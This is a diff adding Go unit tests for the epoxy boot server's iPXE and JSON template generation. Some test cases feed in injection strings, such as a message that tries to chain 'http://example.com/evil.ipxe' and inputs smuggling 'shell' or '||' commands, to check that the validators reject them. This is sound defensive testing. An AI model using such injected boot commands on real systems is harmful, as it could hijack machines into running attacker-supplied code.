@@ -16,13 +16,20 @@
 package template
 
 import (
+	"encoding/json"
+	"html/template"
+	"reflect"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/kylelemons/godebug/pretty"
 	"github.com/lithammer/dedent"
 	"github.com/m-lab/epoxy/datastorex"
+	"github.com/m-lab/epoxy/metrics"
+	"github.com/m-lab/epoxy/nextboot"
 	"github.com/m-lab/epoxy/storage"
+	"github.com/prometheus/client_golang/prometheus/testutil"
 )
 
 const expectedStage1Script = `#!ipxe
@@ -57,7 +64,7 @@ func TestFormatStage1IPXEScript(t *testing.T) {
 		},
 	}
 
-	script := FormatStage1IPXEScript(h, "epoxy-boot-api.mlab-sandbox.measurementlab.net")
+	script := FormatStage1IPXEScript(h, "https://epoxy-boot-api.mlab-sandbox.measurementlab.net", "")
 	// Verify the correct script header.
 	if !strings.HasPrefix(script, "#!ipxe") {
 		lines := strings.SplitN(script, "\n", 2)
@@ -70,6 +77,237 @@ func TestFormatStage1IPXEScript(t *testing.T) {
 	}
 }
 
+func TestFormatStage1IPXEScriptMessage(t *testing.T) {
+	tests := []struct {
+		name     string
+		message  string
+		wantEcho string
+	}{
+		{
+			name: "no-message",
+		},
+		{
+			name:     "message",
+			message:  "Planned maintenance: don't power off",
+			wantEcho: "echo Planned maintenance: don't power off",
+		},
+		{
+			name:     "multi-line-message",
+			message:  "Planned maintenance\nchain http://example.com/evil.ipxe",
+			wantEcho: "echo Planned maintenance chain http://example.com/evil.ipxe",
+		},
+		{
+			name:     "hostile-message",
+			message:  "down || shell && ${stage1chain_url}",
+			wantEcho: "echo down shell {stage1chain_url}",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := &storage.Host{
+				Name:    "mlab1-lga0t.mlab-sandbox.measurement-lab.org",
+				Boot:    datastorex.Map{storage.Stage1IPXE: "https://example.com/stage1to2.ipxe"},
+				Message: tt.message,
+			}
+			script := FormatStage1IPXEScript(h, "https://epoxy-boot-api.mlab-sandbox.measurementlab.net", "")
+			lines := strings.Split(script, "\n")
+			var echo []string
+			for _, line := range lines {
+				if strings.HasPrefix(line, "echo") {
+					echo = append(echo, line)
+				}
+			}
+			switch {
+			case tt.wantEcho == "" && len(echo) != 0:
+				t.Errorf("FormatStage1IPXEScript() unexpected banner: %q", echo)
+			case tt.wantEcho != "" && (len(echo) != 1 || echo[0] != tt.wantEcho):
+				t.Errorf("FormatStage1IPXEScript() banner = %q, want %q", echo, tt.wantEcho)
+			}
+			// The banner is displayed before chaining, which is always the last command.
+			if want := "chain ${stage1chain_url}"; lines[len(lines)-2] != want {
+				t.Errorf("FormatStage1IPXEScript() last command = %q, want %q", lines[len(lines)-2], want)
+			}
+			if got, want := ValidMessage(tt.message), tt.name != "hostile-message"; got != want {
+				t.Errorf("ValidMessage(%q) = %t, want %t", tt.message, got, want)
+			}
+		})
+	}
+}
+
+func TestFormatStage1IPXEScriptChainCommand(t *testing.T) {
+	tests := []struct {
+		name         string
+		chainCommand string
+		want         string
+		wantValid    bool
+	}{
+		{
+			name:      "default",
+			want:      "chain ${stage1chain_url}",
+			wantValid: true,
+		},
+		{
+			name:         "autofree",
+			chainCommand: "chain --autofree --replace",
+			want:         "chain --autofree --replace ${stage1chain_url}",
+			wantValid:    true,
+		},
+		{
+			name:         "imgexec-with-timeout",
+			chainCommand: "imgexec --timeout 5000",
+			want:         "imgexec --timeout 5000 ${stage1chain_url}",
+			wantValid:    true,
+		},
+		{
+			name:         "invalid-uses-default",
+			chainCommand: "chain --autofree\nshell",
+			want:         "chain ${stage1chain_url}",
+		},
+		{
+			name:         "unsupported-command-uses-default",
+			chainCommand: "imgfetch",
+			want:         "chain ${stage1chain_url}",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := &storage.Host{
+				Name:         "mlab1-lga0t.mlab-sandbox.measurement-lab.org",
+				Boot:         datastorex.Map{storage.Stage1IPXE: "https://example.com/stage1to2.ipxe"},
+				ChainCommand: tt.chainCommand,
+			}
+			script := FormatStage1IPXEScript(h, "https://epoxy-boot-api.mlab-sandbox.measurementlab.net", "")
+			lines := strings.Split(script, "\n")
+			// The chain command is always the last line before the trailing newline.
+			if got := lines[len(lines)-2]; got != tt.want {
+				t.Errorf("FormatStage1IPXEScript() chain = %q, want %q", got, tt.want)
+			}
+			if got := ValidChainCommand(tt.chainCommand); got != tt.wantValid {
+				t.Errorf("ValidChainCommand(%q) = %t, want %t", tt.chainCommand, got, tt.wantValid)
+			}
+		})
+	}
+}
+
+func TestValidAPIVersion(t *testing.T) {
+	tests := []struct {
+		version string
+		want    bool
+	}{
+		{version: "", want: true},
+		{version: "v1", want: true},
+		{version: "v12", want: true},
+		{version: "1", want: false},
+		{version: "V1", want: false},
+		{version: "v1/../v2", want: false},
+	}
+	for _, tt := range tests {
+		if got := ValidAPIVersion(tt.version); got != tt.want {
+			t.Errorf("ValidAPIVersion(%q) = %t, want %t", tt.version, got, tt.want)
+		}
+	}
+}
+
+func TestFormatStage1IPXEScriptError(t *testing.T) {
+	// Replace the stage1 template with one that fails during Execute.
+	orig := stage1Ipxe
+	defer func() { stage1Ipxe = orig }()
+	stage1Ipxe = template.Must(template.New("stage1").Parse(`{{ template "missing" }}`))
+
+	before := testutil.ToFloat64(metrics.TemplateErrors.WithLabelValues("stage1"))
+	defer func() {
+		if r := recover(); r == nil {
+			t.Errorf("FormatStage1IPXEScript() did not panic")
+		}
+		after := testutil.ToFloat64(metrics.TemplateErrors.WithLabelValues("stage1"))
+		if after != before+1 {
+			t.Errorf("TemplateErrors = %v, want %v", after, before+1)
+		}
+	}()
+	FormatStage1IPXEScript(&storage.Host{}, "https://epoxy-boot-api.mlab-sandbox.measurementlab.net", "")
+}
+
+func TestFormatStage1IPXEScriptFallback(t *testing.T) {
+	const fallback = "https://storage.googleapis.com/epoxy-mlab-sandbox/stage1to2/stage1to2.ipxe"
+	orig := stage1Ipxe
+	origFallback := FallbackStage1URL
+	defer func() { stage1Ipxe, FallbackStage1URL = orig, origFallback }()
+	FallbackStage1URL = fallback
+
+	tests := []struct {
+		name     string
+		template *template.Template
+		host     *storage.Host
+		want     string
+	}{
+		{
+			name:     "incomplete-sequence",
+			template: orig,
+			host: &storage.Host{
+				Name: "mlab1-lga0t.mlab-sandbox.measurement-lab.org",
+				Boot: datastorex.Map{storage.Stage2: "https://example.com/stage2to3.json"},
+				CurrentSessionIDs: storage.SessionIDs{
+					Stage2ID: "01234",
+				},
+			},
+			want: "set stage1chain_url " + fallback + "\n",
+		},
+		{
+			name:     "template-error",
+			template: template.Must(template.New("stage1").Parse(`{{ template "missing" }}`)),
+			host: &storage.Host{
+				Name: "mlab1-lga0t.mlab-sandbox.measurement-lab.org",
+				Boot: datastorex.Map{storage.Stage1IPXE: "https://example.com/stage1to2.ipxe"},
+			},
+			want: "#!ipxe\n\nset stage1chain_url " + fallback + "\n\nchain ${stage1chain_url}\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			stage1Ipxe = tt.template
+			script := FormatStage1IPXEScript(tt.host, "https://epoxy.example.com", "")
+			if !strings.HasPrefix(script, "#!ipxe") || !strings.Contains(script, tt.want) {
+				t.Errorf("FormatStage1IPXEScript() = %q, want fallback %q", script, tt.want)
+			}
+			if !strings.HasSuffix(script, "chain ${stage1chain_url}\n") {
+				t.Errorf("FormatStage1IPXEScript() does not chain to fallback:\n%s", script)
+			}
+		})
+	}
+}
+
+func TestFormatStage1IPXEScriptDirectives(t *testing.T) {
+	h := &storage.Host{
+		Name: "mlab1-lga0t.mlab-sandbox.measurement-lab.org",
+		Boot: datastorex.Map{storage.Stage1IPXE: "https://example.com/stage1to2.ipxe"},
+	}
+	script := FormatStage1IPXEScript(h, "https://epoxy.example.com", "",
+		"ifstat", "chain http://example.com/evil.ipxe", "sleep 10")
+
+	want := "ifstat\nsleep 10\n\nchain ${stage1chain_url}\n"
+	if !strings.HasSuffix(script, want) {
+		t.Errorf("FormatStage1IPXEScript() = %q, want suffix %q", script, want)
+	}
+	if strings.Contains(script, "evil") {
+		t.Errorf("FormatStage1IPXEScript() included invalid directive:\n%s", script)
+	}
+}
+
+func TestValidIPXEDirective(t *testing.T) {
+	valid := []string{"dhcp", "ifstat", "route", "imgstat", "prompt", "sleep 30"}
+	invalid := []string{"", "shell", "chain http://example.com/evil.ipxe", "ifstat\nshell", "sleep 10000", "dhcp net0"}
+	for _, d := range valid {
+		if !ValidIPXEDirective(d) {
+			t.Errorf("ValidIPXEDirective(%q) = false, want true", d)
+		}
+	}
+	for _, d := range invalid {
+		if ValidIPXEDirective(d) {
+			t.Errorf("ValidIPXEDirective(%q) = true, want false", d)
+		}
+	}
+}
+
 func TestCreateStage1Action(t *testing.T) {
 	tests := []struct {
 		name string
@@ -93,6 +331,7 @@ func TestCreateStage1Action(t *testing.T) {
                 {
                     "kargs": {
                         "epoxy.allocate_k8s_token": "https://epoxy-boot-api.mlab-sandbox.measurementlab.net/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/75319/extension/allocate_k8s_token",
+                        "epoxy.extensions": "allocate_k8s_token",
                         "epoxy.images_version": "v1.8.7",
                         "epoxy.report": "https://epoxy-boot-api.mlab-sandbox.measurementlab.net/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/86420/report",
                         "epoxy.stage2": "https://epoxy-boot-api.mlab-sandbox.measurementlab.net/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/01234/stage2",
@@ -104,19 +343,287 @@ func TestCreateStage1Action(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			if got := CreateStage1Action(tt.h, "epoxy-boot-api.mlab-sandbox.measurementlab.net"); got != tt.want[1:] {
+			if got := CreateStage1Action(tt.h, "https://epoxy-boot-api.mlab-sandbox.measurementlab.net", "", 0); got != tt.want[1:] {
 				t.Errorf("CreateStage1Action() = %v, want %v", got, tt.want)
 			}
 		})
 	}
 }
 
+func TestCreateStage1ActionExtensionOrder(t *testing.T) {
+	tests := []struct {
+		name       string
+		extensions []string
+		want       string
+	}{
+		{
+			name: "no-extensions",
+			want: "",
+		},
+		{
+			name:       "preserves-order",
+			extensions: []string{"op3", "op1", "op2"},
+			want:       "op3,op1,op2",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := &storage.Host{
+				Name:       "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				Extensions: tt.extensions,
+			}
+			c := &nextboot.Config{}
+			err := json.Unmarshal([]byte(CreateStage1Action(h, "https://epoxy.example.com", "", 0)), c)
+			if err != nil {
+				t.Fatalf("CreateStage1Action() returned invalid JSON: %v", err)
+			}
+			if got := c.Kargs[nextboot.ExtensionsKarg]; got != tt.want {
+				t.Errorf("CreateStage1Action() extensions = %q, want %q", got, tt.want)
+			}
+			// The client reads the same order from the ordered list.
+			if got := c.Extensions(); len(tt.extensions) > 0 && !reflect.DeepEqual(got, tt.extensions) {
+				t.Errorf("Config.Extensions() = %q, want %q", got, tt.extensions)
+			}
+		})
+	}
+}
+
+func TestChainURLFirmware(t *testing.T) {
+	boot := datastorex.Map{
+		storage.Stage1IPXE:                     "https://example.com/{{VERSION}}/stage1to2.ipxe",
+		storage.Stage1IPXE + ".efi":            "https://example.com/{{VERSION}}/stage1to2-efi.ipxe",
+		storage.Stage1IPXE + ".efi-secureboot": "https://example.com/{{VERSION}}/stage1to2-efi-signed.ipxe",
+		storage.Stage2:                         "https://example.com/{{VERSION}}/stage2to3.json",
+	}
+	tests := []struct {
+		name       string
+		firmware   string
+		secureBoot bool
+		stage      string
+		want       string
+	}{
+		{
+			name:  "unknown-firmware",
+			stage: storage.Stage1IPXE,
+			want:  "https://example.com/v1.2/stage1to2.ipxe",
+		},
+		{
+			name:     "bios-without-variant",
+			firmware: storage.FirmwareBIOS,
+			stage:    storage.Stage1IPXE,
+			want:     "https://example.com/v1.2/stage1to2.ipxe",
+		},
+		{
+			name:     "efi-variant",
+			firmware: storage.FirmwareEFI,
+			stage:    storage.Stage1IPXE,
+			want:     "https://example.com/v1.2/stage1to2-efi.ipxe",
+		},
+		{
+			name:       "efi-secureboot-variant",
+			firmware:   storage.FirmwareEFI,
+			secureBoot: true,
+			stage:      storage.Stage1IPXE,
+			want:       "https://example.com/v1.2/stage1to2-efi-signed.ipxe",
+		},
+		{
+			name:     "stage-without-variants",
+			firmware: storage.FirmwareEFI,
+			stage:    storage.Stage2,
+			want:     "https://example.com/v1.2/stage2to3.json",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := &storage.Host{
+				Name:          "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				Boot:          boot,
+				ImagesVersion: "v1.2",
+				Firmware:      tt.firmware,
+				SecureBoot:    tt.secureBoot,
+			}
+			if got := ChainURL(h, tt.stage); got != tt.want {
+				t.Errorf("ChainURL() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestAPIVersions(t *testing.T) {
+	tests := []struct {
+		name       string
+		apiVersion string
+		hostPin    string
+		want       string
+	}{
+		{
+			name: "default-version",
+			want: "https://epoxy.example.com/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/01234/stage2",
+		},
+		{
+			name:       "server-version",
+			apiVersion: "v2",
+			want:       "https://epoxy.example.com/v2/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/01234/stage2",
+		},
+		{
+			name:       "host-pinned-version",
+			apiVersion: "v2",
+			hostPin:    "v1",
+			want:       "https://epoxy.example.com/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/01234/stage2",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := &storage.Host{
+				Name:       "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				APIVersion: tt.hostPin,
+				CurrentSessionIDs: storage.SessionIDs{
+					Stage2ID: "01234",
+				},
+			}
+			script := FormatStage1IPXEScript(h, "https://epoxy.example.com", tt.apiVersion)
+			if !strings.Contains(script, "set stage2_url "+tt.want+"\n") {
+				t.Errorf("FormatStage1IPXEScript() missing stage2_url %q in:\n%s", tt.want, script)
+			}
+			action := CreateStage1Action(h, "https://epoxy.example.com", tt.apiVersion, 0)
+			if !strings.Contains(action, `"epoxy.stage2": "`+tt.want+`"`) {
+				t.Errorf("CreateStage1Action() missing epoxy.stage2 %q in:\n%s", tt.want, action)
+			}
+		})
+	}
+}
+
+func TestBaseURLs(t *testing.T) {
+	tests := []struct {
+		name    string
+		baseURL string
+		want    string
+	}{
+		{
+			name:    "default-base-url",
+			baseURL: BaseURL("epoxy.example.com:4321"),
+			want:    "https://epoxy.example.com:4321/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/01234/stage2",
+		},
+		{
+			name:    "external-base-url",
+			baseURL: "https://boot.example.org",
+			want:    "https://boot.example.org/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/01234/stage2",
+		},
+		{
+			name:    "external-base-url-with-path-prefix",
+			baseURL: "https://lb.example.org/epoxy/",
+			want:    "https://lb.example.org/epoxy/v1/boot/mlab1-foo01.mlab-sandbox.measurement-lab.org/01234/stage2",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := &storage.Host{
+				Name: "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				CurrentSessionIDs: storage.SessionIDs{
+					Stage2ID: "01234",
+				},
+			}
+			script := FormatStage1IPXEScript(h, tt.baseURL, "")
+			if !strings.Contains(script, "set stage2_url "+tt.want+"\n") {
+				t.Errorf("FormatStage1IPXEScript() missing stage2_url %q in:\n%s", tt.want, script)
+			}
+			action := CreateStage1Action(h, tt.baseURL, "", 0)
+			if !strings.Contains(action, `"epoxy.stage2": "`+tt.want+`"`) {
+				t.Errorf("CreateStage1Action() missing epoxy.stage2 %q in:\n%s", tt.want, action)
+			}
+		})
+	}
+}
+
+func TestCreateStage1ActionExpiresAt(t *testing.T) {
+	h := &storage.Host{
+		Name:                "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+		LastSessionCreation: time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("EST", -5*60*60)),
+		CurrentSessionIDs:   storage.SessionIDs{Stage2ID: "01234"},
+	}
+	tests := []struct {
+		name       string
+		sessionTTL time.Duration
+		want       string
+	}{
+		{
+			name: "no-ttl",
+		},
+		{
+			name:       "ttl",
+			sessionTTL: 30 * time.Minute,
+			want:       "2026-01-02T08:34:05Z",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := &nextboot.Config{}
+			err := json.Unmarshal([]byte(CreateStage1Action(h, "https://epoxy.example.com", "", tt.sessionTTL)), c)
+			if err != nil {
+				t.Fatalf("CreateStage1Action() returned invalid JSON: %v", err)
+			}
+			if c.V1.ExpiresAt != tt.want {
+				t.Errorf("CreateStage1Action() expires_at = %q, want %q", c.V1.ExpiresAt, tt.want)
+			}
+		})
+	}
+}
+
+func TestMaintenanceConfigs(t *testing.T) {
+	h := &storage.Host{
+		Name:             "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+		Message:          "Replacing disks",
+		MaintenanceUntil: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
+	}
+	tests := []struct {
+		name      string
+		remaining time.Duration
+		wantSleep string
+	}{
+		{
+			name:      "short-maintenance",
+			remaining: 90*time.Second + time.Millisecond,
+			wantSleep: "91",
+		},
+		{
+			name:      "long-maintenance",
+			remaining: 2 * time.Hour,
+			wantSleep: "600",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			script := FormatMaintenanceIPXEScript(h, tt.remaining)
+			want := "#!ipxe\n\n" +
+				"echo Maintenance until 2026-01-02T03:04:05Z: Replacing disks\n" +
+				"sleep " + tt.wantSleep + "\nreboot\n"
+			if script != want {
+				t.Errorf("FormatMaintenanceIPXEScript() = %q, want %q", script, want)
+			}
+
+			c := &nextboot.Config{}
+			if err := json.Unmarshal([]byte(CreateMaintenanceAction(h, tt.remaining)), c); err != nil {
+				t.Fatalf("CreateMaintenanceAction() returned invalid JSON: %v", err)
+			}
+			if c.V1.Chain != "" || len(c.V1.Commands) != 3 {
+				t.Fatalf("CreateMaintenanceAction() = %#v, want three commands", c.V1)
+			}
+			sleep := []interface{}{"sleep", tt.wantSleep}
+			if !reflect.DeepEqual(c.V1.Commands[1], sleep) {
+				t.Errorf("CreateMaintenanceAction() command = %q, want %q", c.V1.Commands[1], sleep)
+			}
+		})
+	}
+}
+
 func TestFormatJSONConfig(t *testing.T) {
 	tests := []struct {
-		name  string
-		h     *storage.Host
-		stage string
-		want  string
+		name       string
+		h          *storage.Host
+		stage      string
+		compact    bool
+		sessionTTL time.Duration
+		want       string
 	}{
 		{
 			name: "success",
@@ -134,10 +641,66 @@ func TestFormatJSONConfig(t *testing.T) {
                     }
                 }`),
 		},
+		{
+			name: "success-with-checksum",
+			h: &storage.Host{
+				Name: "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				Boot: datastorex.Map{
+					"stage2": "https://example.com/path/stage2/stage2",
+				},
+				ChainChecksums: datastorex.Map{
+					"https://example.com/path/stage2/stage2": "0123abcd",
+				},
+			},
+			stage:   "stage2",
+			compact: true,
+			want:    `{"v1":{"chain":"https://example.com/path/stage2/stage2","chain_sha256":"0123abcd"}}`,
+		},
+		{
+			name: "success-with-command-timeout",
+			h: &storage.Host{
+				Name: "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				Boot: datastorex.Map{
+					"stage2": "https://example.com/path/stage2/stage2",
+				},
+				CommandTimeout: "4h",
+			},
+			stage:   "stage2",
+			compact: true,
+			want:    `{"v1":{"chain":"https://example.com/path/stage2/stage2","command_timeout":"4h"}}`,
+		},
+		{
+			name: "success-with-session-ttl",
+			h: &storage.Host{
+				Name: "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				Boot: datastorex.Map{
+					"stage2": "https://example.com/path/stage2/stage2",
+				},
+				LastSessionCreation: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
+			},
+			stage:      "stage2",
+			compact:    true,
+			sessionTTL: 8 * time.Hour,
+			want:       `{"v1":{"chain":"https://example.com/path/stage2/stage2","expires_at":"2026-01-02T11:04:05Z"}}`,
+		},
+		{
+			name: "success-compact",
+			h: &storage.Host{
+				Name: "mlab1-foo01.mlab-sandbox.measurement-lab.org",
+				Boot: datastorex.Map{
+					"stage2": "https://example.com/path/stage2/stage2",
+				},
+			},
+			stage:   "stage2",
+			compact: true,
+			want:    `{"v1":{"chain":"https://example.com/path/stage2/stage2"}}`,
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			if got := FormatJSONConfig(tt.h, tt.stage); got != tt.want[1:] {
+			// Dedent does not strip the leading newline of pretty outputs.
+			want := strings.TrimPrefix(tt.want, "\n")
+			if got := FormatJSONConfig(tt.h, tt.stage, tt.compact, tt.sessionTTL); got != want {
 				t.Errorf("FormatJSONConfig() = %v, want %v", got, tt.want)
 			}
 		})